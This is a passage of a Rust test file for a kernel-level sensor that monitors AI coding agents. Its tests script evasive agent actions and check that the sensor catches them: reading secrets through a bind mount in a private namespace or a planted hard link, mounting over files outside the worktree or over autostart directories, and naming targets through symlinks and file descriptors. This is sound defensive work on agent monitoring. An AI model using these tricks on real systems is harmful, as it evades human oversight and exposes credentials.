    if !can_run_kernel_tests("gap_a_socket_connected_before_tracking_is_at_least_recorded") {
        return;
    }
    use std::io::Read as _;
    let scene = Scene::new("presocket");
    // The test connects; the agent only inherits the connected socket as its stdin.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let client = std::net::TcpStream::connect(listener.local_addr().unwrap()).unwrap();
    let (mut server, _) = listener.accept().unwrap();
    let sensor = scene.sensor();
    let code = "import os, socket\n\
                s = socket.socket(fileno=0)\n\
                s.sendall(b'twelve bytes')\n\
                s.detach()\n\
                print('pid=%d' % os.getpid())\n";
    let out = Command::new(sensor_binary())
        .args([
            "exec",
            "--agent",
            "presocket",
            "--worktree",
            s(&scene.worktree),
        ])
        .arg("--control-socket")
        .arg(&sensor.socket)
        .args(["--", PYTHON, "-c", code])
        .current_dir(&scene.worktree)
        .stdin(Stdio::from(std::os::fd::OwnedFd::from(client)))
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let pid = field(&String::from_utf8_lossy(&out.stdout), "pid");
    let mut got = [0u8; 12];
    server.read_exact(&mut got).unwrap();
    assert_eq!(&got, b"twelve bytes");
    let (events, _) = finish(sensor);
    let exec = events_of(&events, "process.exec", pid);
    assert!(
        exec.iter().any(|e| e["stdio"][0] == "socket"),
        "stdin not seen as a socket: {exec:#?}"
    );
    let sends = events_of(&events, "net.send", pid);
    assert!(
        sends.iter().any(|e| e["fd"] == 0 && e["bytes"] == 12),
        "the send on the inherited socket was not recorded: {sends:#?}"
    );
}

#[test]
fn a_secret_bind_mounted_in_a_new_mount_namespace_is_caught() {
    if !can_run_kernel_tests("a_secret_bind_mounted_in_a_new_mount_namespace_is_caught") {
        return;
    }
    // Inside its own mount namespace the agent mounts the secrets directory into its worktree:
    // the kernel walk reports the namespace's view, `<worktree>/mnt/bound`, and the device
    // and inode say which secret that is.
    let scene = Scene::new("bindmount");
    let secret = scene.secret("bound");
    let mnt = scene.worktree.join("mnt");
    std::fs::create_dir(&mnt).unwrap();
    let sensor = scene.sensor();
    run_agent(
        &sensor,
        "bindmount",
        &scene.worktree,
        &[
            "/usr/bin/unshare",
            "-m",
            "/bin/sh",
            "-c",
            &format!(
                "mount --bind {} mnt && cat mnt/bound > /dev/null",
                s(&scene.secrets)
            ),
        ],
    );
    let (events, alerts) = finish(sensor);
    let meta = std::fs::metadata(&secret).unwrap();
    let open = events
        .iter()
        .find(|e| e["kind"] == "file.open" && e["ino"] == meta.ino() && e["dev"] == meta.dev())
        .unwrap_or_else(|| panic!("the read of the bound secret was not recorded"));
    assert_eq!(open["path"], s(&mnt.join("bound")), "{open:#}");
    assert!(
        events.iter().any(|e| e["kind"] == "process.exec"
            && e["argv"]
                .as_array()
                .is_some_and(|a| a.iter().any(|x| x == "--bind"))),
        "the bind mount was not recorded"
    );
    let (alert, _) = expect_alert(&alerts, SENSITIVE_READ, "bindmount", &mnt.join("bound"));
    assert!(
        alert["summary"].as_str().is_some_and(
            |s| s.contains("under another name") && s.contains(secret.to_str().unwrap())
        ),
        "{alert:#}"
    );
}

/// A mount changes what every process of the mount namespace sees at its target: a tmpfs over
/// a directory or a bind mount over a file outside the worktree is a write there, and so is
/// an unmount; over a directory of startup files it is persistence.
/// Mounts in a mount namespace of the agent's own user namespace (a sandbox's, as bubblewrap
/// makes) stay in it: recorded, not judged.
#[test]
fn mounts_over_paths_outside_the_worktree_are_caught() {
    if !can_run_kernel_tests("mounts_over_paths_outside_the_worktree_are_caught") {
        return;
    }
    let scene = Scene::with_profile("mountover", "startup = [\"{root}/outside/autostart/**\"]");
    let target = scene.outside.join("mounted");
    let autostart = scene.outside.join("autostart");
    std::fs::create_dir(&autostart).unwrap();
    let sandboxed = scene.outside.join("sandboxed");
    let covered = scene.outside_file("covered", "covered\n");
    std::fs::write(scene.worktree.join("notes"), "notes\n").unwrap();
    std::fs::create_dir(&target).unwrap();
    std::fs::create_dir(&sandboxed).unwrap();
    let script = scene.script(
        "mount",
        "import ctypes, os, sys\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         def check(ret, what):\n\
         \x20   assert ret == 0, '%s: %s' % (what, os.strerror(ctypes.get_errno()))\n\
         target, covered, sandboxed, autostart = (a.encode() for a in sys.argv[1:5])\n\
         check(libc.mount(b'tmpfs', target, b'tmpfs', ctypes.c_ulong(0), None), 'mount')\n\
         check(libc.umount2(target, 0), 'umount2')\n\
         check(libc.mount(b'notes', covered, None, ctypes.c_ulong(4096), None), 'bind mount')\n\
         check(libc.umount2(covered, 0), 'umount2')\n\
         check(libc.mount(b'tmpfs', autostart, b'tmpfs', ctypes.c_ulong(0), None), 'mount')\n\
         check(libc.umount2(autostart, 0), 'umount2')\n\
         pid = os.fork()\n\
         if pid == 0:\n\
         \x20   check(libc.unshare(0x10000000 | 0x20000), 'unshare')\n\
         \x20   check(libc.mount(b'tmpfs', sandboxed, b'tmpfs', ctypes.c_ulong(0), None), 'sandboxed mount')\n\
         \x20   os._exit(0)\n\
         _, status = os.waitpid(pid, 0)\n\
         assert status == 0, status\n\
         print('mounted')\n",
    );
    let _unmount = Unmount(vec![target.clone(), covered.clone(), autostart.clone()]);
    let sensor = scene.sensor();
    let out = run_agent(
        &sensor,
        "mountover",
        &scene.worktree,
        &[
            PYTHON,
            &script,
            s(&target),
            s(&covered),
            s(&sandboxed),
            s(&autostart),
        ],
    );
    assert!(out.contains("mounted"), "{out}");
    let (events, alerts) = finish(sensor);
    let mounts: Vec<_> = events
        .iter()
        .filter(|e| e["kind"] == "file.mount")
        .map(|e| (e["syscall"].clone(), e["path"].clone()))
        .collect();
    assert_eq!(
        mounts,
        [
            ("mount".into(), s(&target).into()),
            ("umount2".into(), s(&target).into()),
            ("mount".into(), s(&covered).into()),
            ("umount2".into(), s(&covered).into()),
            ("mount".into(), s(&autostart).into()),
            ("umount2".into(), s(&autostart).into()),
            ("mount".into(), s(&sandboxed).into())
        ],
        "{events:#?}"
    );
    // A tmpfs's source is a name, not a file under the cwd; a bind's is the file.
    let source = |path: &Path| {
        let mount = events
            .iter()
            .find(|e| e["kind"] == "file.mount" && e["path"] == s(path))
            .unwrap();
        (mount["path2_arg"].clone(), mount["path2"].clone())
    };
    assert_eq!(source(&target), ("tmpfs".into(), Value::Null));
    let notes = scene.worktree.join("notes");
    assert_eq!(source(&covered), ("notes".into(), s(&notes).into()));
    let said = summaries(&alerts, WRITE_OUTSIDE, "mountover");
    // One alert per target (the unmounts are deduplicated into the mounts'), none for the
    // sandbox's.
    let worktree = scene.worktree.display();
    assert_eq!(
        said,
        [
            format!(
                "mounted over {} outside worktree {worktree}",
                target.display()
            ),
            format!(
                "mounted over {} outside worktree {worktree}",
                covered.display()
            )
        ],
        "{alerts:#?}"
    );
    // Over a directory of startup files: what it shadows is persistence.
    let startup = summaries(&alerts, "persistence.startup_write", "mountover");
    assert_eq!(
        startup,
        [format!(
            "mounted over the startup files under {}",
            autostart.display()
        )],
        "{alerts:#?}"
    );
}

/// A mount target named indirectly is judged by what the mount covers: a symlink in the
/// worktree to an outside file (mount follows it), `/proc/self/fd/N` of an `O_PATH` fd, and
/// the new mount API's empty path with a target fd (`open_tree` + `move_mount`); so too a
/// file's times set through its fd alone (`futimens`, `utimensat` with a NULL path).
#[test]
fn mount_targets_named_through_links_and_descriptors_are_judged_by_what_they_cover() {
    if !can_run_kernel_tests(
        "mount_targets_named_through_links_and_descriptors_are_judged_by_what_they_cover",
    ) {
        return;
    }
    let scene = Scene::new("mountindirect");
    let linked = scene.outside_file("linked", "linked\n");
    let via_fd = scene.outside_file("viafd", "viafd\n");
    let via_dirfd = scene.outside_file("viadirfd", "viadirfd\n");
    let touched = scene.outside_file("touched", "touched\n");
    std::fs::write(scene.worktree.join("notes"), "notes\n").unwrap();
    std::os::unix::fs::symlink(&linked, scene.worktree.join("link")).unwrap();
    let script = scene.script(
        "mountindirect",
        "import ctypes, os, sys, time\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         libc.syscall.restype = ctypes.c_long\n\
         def check(ret, what):\n\
         \x20   assert ret >= 0, '%s: %s' % (what, os.strerror(ctypes.get_errno()))\n\
         \x20   return ret\n\
         def bind(target):\n\
         \x20   check(libc.mount(b'notes', target, None, ctypes.c_ulong(4096), None), target)\n\
         linked, via_fd, via_dirfd, touched = sys.argv[1:5]\n\
         bind(b'link')\n\
         check(libc.umount2(linked.encode(), 0), 'umount linked')\n\
         fd = os.open(via_fd, os.O_PATH)\n\
         bind(b'/proc/self/fd/%d' % fd)\n\
         check(libc.umount2(via_fd.encode(), 0), 'umount viafd')\n\
         tree = check(libc.syscall(428, -100, b'notes', 1), 'open_tree')\n\
         to = os.open(via_dirfd, os.O_PATH)\n\
         check(libc.syscall(429, tree, b'', to, b'', 0x4 | 0x40), 'move_mount')\n\
         os.close(tree)\n\
         check(libc.umount2(via_dirfd.encode(), 2), 'umount viadirfd')\n\
         t = os.open(touched, os.O_RDONLY)\n\
         os.utime(t)\n\
         print('done')\n\
         time.sleep(0.3)\n",
    );
    let _unmount = Unmount(vec![linked.clone(), via_fd.clone(), via_dirfd.clone()]);
    let sensor = scene.sensor();
    let out = run_agent(
        &sensor,
        "mountindirect",
        &scene.worktree,
        &[
            PYTHON,
            &script,
            s(&linked),
            s(&via_fd),
            s(&via_dirfd),
            s(&touched),
        ],
    );
    assert!(out.contains("done"), "{out}");
    let (_, alerts) = finish(sensor);
    let said = summaries(&alerts, WRITE_OUTSIDE, "mountindirect");
    let worktree = scene.worktree.display();
    assert_eq!(
        said,
        [
            format!(
                "mounted over {} outside worktree {worktree}",
                linked.display()
            ),
            format!(
                "mounted over {} outside worktree {worktree}",
                via_fd.display()
            ),
            format!(
                "mounted over {} outside worktree {worktree}",
                via_dirfd.display()
            ),
            format!(
                "set the times of {} outside worktree {worktree}",
                touched.display()
            ),
        ],
        "{alerts:#?}"
    );
}

#[test]
fn a_secret_read_through_a_hard_link_planted_before_the_agent_started_is_caught() {
    if !can_run_kernel_tests(
        "a_secret_read_through_a_hard_link_planted_before_the_agent_started_is_caught",
    ) {
        return;
    }
    // Someone left a second, harmless-looking name of a secret in the worktree.
    let scene = Scene::new("plantedsecret");
    let secret = scene.secret("deploy_key");
    let notes = scene.worktree.join("notes.txt");
    std::fs::hard_link(&secret, &notes).unwrap();
    let sensor = scene.sensor();
    run_agent(
        &sensor,
        "plantedsecret",
        &scene.worktree,
        &["/bin/sh", "-c", "cat notes.txt > /dev/null"],
    );
    let (_, alerts) = finish(sensor);
    let (alert, _) = expect_alert(&alerts, SENSITIVE_READ, "plantedsecret", &notes);
    assert!(
        alert["summary"]
            .as_str()
            .is_some_and(|s| s.contains(secret.to_str().unwrap())),
        "{alert:#}"
    );
}
